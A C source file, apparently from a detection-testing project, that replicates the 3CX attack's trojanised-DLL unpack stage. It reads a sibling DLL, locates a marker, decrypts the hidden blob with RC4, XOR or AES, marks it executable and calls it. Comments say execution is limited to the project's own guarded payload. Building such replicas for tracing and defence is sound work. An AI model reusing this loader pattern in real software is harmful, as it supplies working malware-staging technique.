/* The unpack step that a trojanised ffmpeg.dll runs from DllMain. Stands for
 * stage 3 of the 3CX chain (docs/replicas.md); a benign sidetrace replica.
 *
 * It does what a tracer has to be able to see - the named event, the sibling
 * DLL read as a file, the marker, the cipher without any crypto API, the change
 * of protection, the call. The magic and the checksum tell a damaged payload
 * from a whole one; what may be executed at all is decided in pin/pin.c, which
 * lets nothing run but the payload built together with it, and that one can
 * only call the guard (payload.h).
 */
#include <windows.h>
#include <bcrypt.h>
#include <string.h>
#include "../payload/payload.h"
#include "../pin/pin.h"

__declspec(dllimport) uint32_t SidetraceGuard(void);
__declspec(dllimport) uint64_t SidetraceStage(struct table *, uint32_t, const void *, uint32_t, void *);

enum cipher { CIPHER_RC4 = 1, CIPHER_XOR = 2, CIPHER_AES_CBC = 3 };

/* Found by its magic and filled in by the Go builder. */
#pragma pack(push, 1)
struct configuration {
	char     magic[16];
	uint32_t cipher;
	uint32_t key_size;
	uint8_t  key[32];
	uint32_t marker_size;
	uint8_t  marker[16];
	uint8_t  iv[16];
	WCHAR    event[64];
	WCHAR    container[64];
};
#pragma pack(pop)

static volatile struct configuration configuration = {
	.magic = {'S', 'I', 'D', 'E', 'T', 'R', 'A', 'C', 'E', '-', 'U', 'N', 'P', 'A', 'C', 'K'},
};

static struct table table;

static void rc4(uint8_t *data, uint32_t size, const uint8_t *key, uint32_t key_size)
{
	uint8_t s[256], t;
	unsigned i, j = 0;
	for (i = 0; i < 256; i++)
		s[i] = (uint8_t)i;
	for (i = 0; i < 256; i++) {
		j = (j + s[i] + key[i % key_size]) & 255;
		t = s[i], s[i] = s[j], s[j] = t;
	}
	i = j = 0;
	for (uint32_t n = 0; n < size; n++) {
		i = (i + 1) & 255;
		j = (j + s[i]) & 255;
		t = s[i], s[i] = s[j], s[j] = t;
		data[n] ^= s[(s[i] + s[j]) & 255];
	}
}

static void xor(uint8_t *data, uint32_t size, const uint8_t *key, uint32_t key_size)
{
	for (uint32_t n = 0; n < size; n++)
		data[n] ^= key[n % key_size];
}

static BOOL aes_cbc(uint8_t *data, uint32_t *size, const struct configuration *c)
{
	BCRYPT_ALG_HANDLE algorithm;
	BCRYPT_KEY_HANDLE key;
	uint8_t iv[16];
	ULONG done = 0;
	NTSTATUS status = -1;

	if (BCryptOpenAlgorithmProvider(&algorithm, BCRYPT_AES_ALGORITHM, NULL, 0) != 0)
		return FALSE;
	if (BCryptSetProperty(algorithm, BCRYPT_CHAINING_MODE, (PUCHAR)BCRYPT_CHAIN_MODE_CBC, sizeof BCRYPT_CHAIN_MODE_CBC, 0) == 0 &&
	    BCryptGenerateSymmetricKey(algorithm, &key, NULL, 0, (PUCHAR)c->key, c->key_size, 0) == 0) {
		memcpy(iv, c->iv, sizeof iv);
		status = BCryptDecrypt(key, data, *size, NULL, iv, sizeof iv, data, *size, &done, BCRYPT_BLOCK_PADDING);
		BCryptDestroyKey(key);
	}
	BCryptCloseAlgorithmProvider(algorithm, 0);
	*size = done;
	return status == 0;
}

static BOOL decrypt(uint8_t *data, uint32_t *size, const struct configuration *c)
{
	if (c->key_size == 0 || c->key_size > sizeof c->key)
		return FALSE;
	switch (c->cipher) {
	case CIPHER_RC4:
		rc4(data, *size, c->key, c->key_size);
		return TRUE;
	case CIPHER_XOR:
		xor(data, *size, c->key, c->key_size);
		return TRUE;
	case CIPHER_AES_CBC:
		return aes_cbc(data, size, c);
	}
	return FALSE;
}

/* crc32 is the IEEE checksum, four bits at a time. */
static uint32_t crc32(const uint8_t *data, uint32_t size)
{
	static const uint32_t table[16] = {
		0x00000000, 0x1db71064, 0x3b6e20c8, 0x26d930ac, 0x76dc4190, 0x6b6b51f4, 0x4db26158, 0x5005713c,
		0xedb88320, 0xf00f9344, 0xd6d6a3e8, 0xcb61b38c, 0x9b64c2b0, 0x86d3d2d4, 0xa00ae278, 0xbdbdf21c,
	};
	uint32_t crc = ~0u;
	for (uint32_t n = 0; n < size; n++) {
		crc ^= data[n];
		crc = crc >> 4 ^ table[crc & 15];
		crc = crc >> 4 ^ table[crc & 15];
	}
	return ~crc;
}

/* whole says whether the plaintext is a payload that nothing has damaged. */
static BOOL whole(const uint8_t *data, uint32_t size)
{
	const struct payload *p = (const struct payload *)data;
	return size > sizeof *p && memcmp(p->magic, "STPAYLD1", 8) == 0 && p->stub < size && p->image < size &&
	       p->image_size <= size - p->image && p->crc32 == crc32(data + 16, size - 16);
}

/* container reads the sibling file that carries the payload. */
static uint8_t *container(HINSTANCE self, const WCHAR *name, DWORD *size)
{
	WCHAR path[MAX_PATH];
	DWORD n = GetModuleFileNameW(self, path, MAX_PATH), done = 0;
	uint8_t *data = NULL;
	HANDLE file;

	if (n == 0 || n == MAX_PATH)
		return NULL;
	while (n > 0 && path[n - 1] != L'\\')
		n--;
	if (n + lstrlenW(name) >= MAX_PATH)
		return NULL;
	lstrcpyW(path + n, name);

	file = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
	if (file == INVALID_HANDLE_VALUE)
		return NULL;
	*size = GetFileSize(file, NULL);
	if (*size != INVALID_FILE_SIZE && *size > 2)
		data = HeapAlloc(GetProcessHeap(), 0, *size);
	if (data && (!ReadFile(file, data, *size, &done, NULL) || done != *size || data[0] != 'M' || data[1] != 'Z')) {
		HeapFree(GetProcessHeap(), 0, data);
		data = NULL;
	}
	CloseHandle(file);
	return data;
}

/* behind returns the offset of the first byte behind the marker, or 0. It looks
 * byte by byte, as the original is described to do. */
static uint32_t behind(const uint8_t *data, uint32_t size, const uint8_t *marker, uint32_t marker_size)
{
	if (marker_size == 0 || marker_size > 16)
		return 0;
	for (uint32_t n = 0; n + marker_size + 4 <= size; n++) {
		uint32_t equal = 0;
		while (equal < marker_size && data[n + equal] == marker[equal])
			equal++;
		if (equal == marker_size)
			return n + marker_size;
	}
	return 0;
}

void sidetrace_unpack(HINSTANCE self)
{
	struct configuration c = configuration;
	DWORD size, old;
	uint32_t at, length;
	uint8_t *data;

	if (SidetraceGuard() != GUARD_ANSWER)
		return;
	HANDLE event = CreateEventW(NULL, FALSE, FALSE, c.event);
	if (event == NULL)
		return;
	if (GetLastError() == ERROR_ALREADY_EXISTS) {
		CloseHandle(event);
		return;
	}
	data = container(self, c.container, &size);
	if (data == NULL)
		return;
	at = behind(data, size, c.marker, c.marker_size);
	if (at != 0) {
		memcpy(&length, data + at, 4);
		at += 4;
		if (length <= size - at && decrypt(data + at, &length, &c) && whole(data + at, length) &&
		    sidetrace_protect(data + at, length, PAGE_EXECUTE_READWRITE, &old)) {
			const struct payload *p = (const struct payload *)(data + at);
			table.guard = SidetraceGuard;
			table.stage = SidetraceStage;
			((stub_fn *)(data + at + p->stub))(&table, p);
			sidetrace_protect(data + at, length, old, &old);
		}
	}
	/* The buffer stays: the emulator reads the parameters from it. */
}
